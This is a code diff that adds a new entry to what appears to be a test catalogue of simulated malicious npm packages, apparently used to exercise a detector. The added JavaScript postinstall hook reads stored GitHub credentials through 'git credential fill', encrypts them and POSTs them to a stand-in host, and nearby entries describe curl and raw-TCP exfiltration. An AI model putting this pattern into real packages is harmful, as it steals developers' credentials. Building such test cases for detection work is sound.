@@ -212,6 +212,16 @@ _CURL = shell(
     """
 )
 
+_GIT = javascript(
+    """
+    const input = "protocol=https\\nhost=github.com\\n\\n";
+    const kept = child_process.execFileSync("git", ["credential", "fill"], { input });
+    const cipher = crypto.createCipheriv("aes-256-ctr", crypto.randomBytes(32), Buffer.alloc(16));
+    await fetch("https://in.hook-stats.test/c", { method: "POST", body: cipher.update(kept) });
+    """,
+    "child_process crypto",
+)
+
 _PYTHON_STDIN = javascript(
     """
     const code = [
@@ -349,6 +359,10 @@ THIEVES = [
     _thief(
         "npm-shell-curl", "key-index", "a shell script and curl, no node at all",
         _scripted("key-index", "postinstall", _CURL), decoy="ssh", way_out="drop.key-index.test",
+    ),
+    _thief(
+        "npm-git-credential", "hook-stats", "asks git for what it keeps, and sends it encrypted",
+        _scripted("hook-stats", "postinstall", _GIT), decoy="github", way_out="in.hook-stats.test", rules=TAINT,
     ),
     _thief(
         "npm-static-program", "wide-hash", "a static program sends raw TCP to an address",
